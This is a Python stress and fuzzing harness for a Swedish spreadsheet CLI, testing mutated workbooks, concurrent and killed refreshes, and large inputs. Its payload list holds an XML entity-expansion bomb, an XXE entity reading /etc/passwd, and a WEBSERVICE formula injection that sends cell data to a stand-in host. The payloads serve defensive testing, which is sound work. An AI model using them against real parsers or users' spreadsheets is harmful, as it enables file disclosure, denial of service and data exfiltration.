"""Reproducers of issue 8 (the file side), run against this code: mutated workbooks, two refreshes at
once, killed refreshes, a value in the last row, 20 000 rows with a control character. Prints what
happened and how long it took; exits 1 if any run printed a traceback, lost a log row, or damaged a file.

Run: python bench/hostile.py [--mutations 300] [--pairs 5] [--kills 20]
"""

import argparse
import contextlib
import io
import os
import random
import re
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

import openpyxl  # noqa: E402

from workbook import layout as L  # noqa: E402
from workbook.cli import main  # noqa: E402

EXAMPLE = ROOT / "workbook" / "VP2025-exempel.xlsx"
VP = [sys.executable, "-c", "import sys; from workbook.cli import main; sys.exit(main(sys.argv[1:]))"]
ENV = {**os.environ, "PYTHONPATH": str(ROOT)}
PAYLOADS = [b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
            b'<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>', b"\x01", b"<", b"&bogus;", b"]]>",
            b'<mergeCell ref="A5:C9"/>', b"<row>", b"</c>", b'r="ZZZZ99"', b"<v>x</v>", b"\xff\xfe", b"\x00"]


def members(path):
    with zipfile.ZipFile(path) as z:
        return [(info, z.read(info)) for info in z.infolist()]


def mutate(path, rng):
    """One random damage: bytes flipped in the zip, a part truncated or spliced with a hostile payload,
    a part dropped, merged cells over the overview, or an injection in an input cell."""
    kind = rng.choice(["flip", "truncate", "payload", "drop", "merge", "injection"])
    parts = members(EXAMPLE)
    if kind == "flip":
        data = bytearray(EXAMPLE.read_bytes())
        for _ in range(rng.randint(1, 20)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
        path.write_bytes(bytes(data))
        return kind
    index = rng.randrange(len(parts))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for n, (info, data) in enumerate(parts):
            if n == index and kind == "truncate":
                data = data[: rng.randrange(len(data))]
            elif n == index and kind == "payload":
                at = rng.randrange(len(data))
                data = data[:at] + rng.choice(PAYLOADS) + data[at:]
            elif n == index and kind == "drop":
                continue
            elif kind == "merge" and info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<pageMargins", b'<mergeCells count="1"><mergeCell ref="A5:H9"/></mergeCells>'
                                                     b"<pageMargins")
            elif kind == "injection" and info.filename == "xl/worksheets/sheet2.xml":
                data = data.replace(b"<t>Varje", b'<t>=WEBSERVICE("http://x/?"&amp;A1) Varje', 1)
            out.writestr(info, data)
    return kind


def run_in_process(argv):
    err, out = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(out):
        try:
            code = main(argv)
        except BaseException as exc:  # noqa: BLE001 - what the harness looks for
            return "traceback", f"{type(exc).__name__}: {exc}"[:200]
    lines = [line for line in err.getvalue().splitlines() if line.startswith("Fel:")]
    return code, lines[0] if lines else ""


def mutations(count, folder, rng):
    outcomes, bad = {}, []
    start = time.perf_counter()
    for n in range(count):
        path = folder / f"m{n}.xlsx"
        kind = mutate(path, rng)
        for command in ("check", "refresh"):
            before = path.read_bytes()
            code, line = run_in_process([command, str(path)])
            key = (command, code)
            outcomes[key] = outcomes.get(key, 0) + 1
            if code == "traceback" or "oväntat fel" in line or (code == 2 and (not line or path.read_bytes() != before)):
                bad.append((kind, command, code, line))
            if code == 0 and command == "refresh":
                overview = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
                if re.search(rb"<(\w+:)?f[ >/]", overview):
                    bad.append((kind, command, "formel i Översikt", ""))
        path.unlink()
        for extra in folder.glob(f"m{n}.vp-backup-*"):
            extra.unlink()
    elapsed = time.perf_counter() - start
    print(f"{count} muterade filer ({elapsed:.0f} s): " + ", ".join(f"{c} slutstatus {k}: {v}"
                                                               for (c, k), v in sorted(outcomes.items(), key=str)))
    for item in bad[:10]:
        print("  FEL:", item)
    return not bad


def pairs(count, folder):
    ok = True
    start = time.perf_counter()
    rows = []
    for n in range(count):
        path = folder / f"par{n}.xlsx"
        shutil.copy(EXAMPLE, path)
        runs = [subprocess.Popen([*VP, "refresh", str(path)], cwd=ROOT, env=ENV, stdout=subprocess.DEVNULL,
                                 stderr=subprocess.DEVNULL) for _ in range(2)]
        codes = [run.wait() for run in runs]
        log = [r for r in openpyxl.load_workbook(path)[L.LOG].iter_rows(min_row=5, values_only=True) if r[0]]
        backups = list(folder.glob(f"par{n}.vp-backup-*"))
        rows.append(len(log))
        ok &= codes == [0, 0] and len(log) == 2 and len(backups) == 2
    print(f"{count} par av samtidiga vp refresh ({time.perf_counter() - start:.0f} s): loggrader {rows} (väntat 2)")
    return ok


def kills(count, folder, rng):
    path = folder / "dödad.xlsx"
    shutil.copy(EXAMPLE, path)
    damaged, temporaries = 0, 0
    start = time.perf_counter()
    for _ in range(count):
        run = subprocess.Popen([*VP, "refresh", str(path)], cwd=ROOT, env=ENV, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
        time.sleep(rng.uniform(1.0, 4.0))
        os.kill(run.pid, signal.SIGKILL)
        run.wait()
        try:
            assert zipfile.ZipFile(path).testzip() is None
            openpyxl.load_workbook(path, read_only=True)
        except Exception:  # noqa: BLE001
            damaged += 1
        temporaries += len(list(folder.glob(".vp-*.xlsx")))
        for temporary in folder.glob(".vp-*.xlsx"):
            os.utime(temporary, (time.time() - 3600,) * 2)  # as if left long ago
    code, _ = run_in_process(["refresh", str(path)])
    left = list(folder.glob(".vp-*.xlsx"))
    print(f"{count} SIGKILL under vp refresh ({time.perf_counter() - start:.0f} s): skadade filer {damaged}, "
          f"kvarlämnade temporärfiler sett {temporaries}, kvar efter nästa körning {len(left)}")
    return damaged == 0 and not left and code == 0


def _peak(argv):
    start = time.perf_counter()
    run = subprocess.run(argv, cwd=ROOT, env=ENV, capture_output=True, timeout=900)
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return run.returncode, time.perf_counter() - start, usage.ru_maxrss / 1024


def last_row(folder):
    path = folder / "sista-raden.xlsx"
    with zipfile.ZipFile(EXAMPLE) as z, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in z.infolist():
            data = z.read(info)
            if info.filename == "xl/worksheets/sheet2.xml":
                data = data.replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>I99</t>'
                                                     b"</is></c></row></sheetData>")
            out.writestr(info, data)
    ok = True
    for command in (["check", str(path)], ["refresh", str(path)], ["export", str(path), "--out", str(folder / "v.xlsx")]):
        code, seconds, rss = _peak([*VP, *command])
        print(f"värde i Indikatorer!A1048576: vp {command[0]:<7} slutstatus {code}, {seconds:.1f} s, "
              f"största RSS hittills {rss:.0f} MB")
        ok &= code in (0, 1) and seconds < 120 and rss < 2048
    return ok


def control_rows(folder, rows=20000):
    path = folder / "styrtecken.xlsx"
    wb = openpyxl.load_workbook(EXAMPLE)
    ws = wb[L.INDICATORS]
    template = [c.value for c in ws[5]][:12]
    for n in range(rows):
        values = list(template)
        values[0], values[3] = f"X{n:05d}", f"Indikator_x0001_ {n} med styrtecken"
        ws.append(values)
    wb.save(path)
    ok = True
    for command in ("check", "refresh"):
        code, seconds, rss = _peak([*VP, command, str(path)])
        print(f"{rows} rader med styrtecken: vp {command:<7} slutstatus {code}, {seconds:.1f} s")
        ok &= code in (0, 1)
    overview = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    ok &= b"_x0001_" in overview and b"\x01" not in overview
    return ok


def main_():
    parser = argparse.ArgumentParser()
    parser.add_argument("--mutations", type=int, default=300)
    parser.add_argument("--pairs", type=int, default=5)
    parser.add_argument("--kills", type=int, default=20)
    parser.add_argument("--seed", type=int, default=8)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    ok = True
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        ok &= mutations(args.mutations, folder, rng)
        ok &= pairs(args.pairs, folder)
        ok &= kills(args.kills, folder, rng)
        ok &= last_row(folder)
        ok &= control_rows(folder)
    print("Alla reproducerare klarade." if ok else "NÅGOT GICK FEL (se ovan).")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main_())
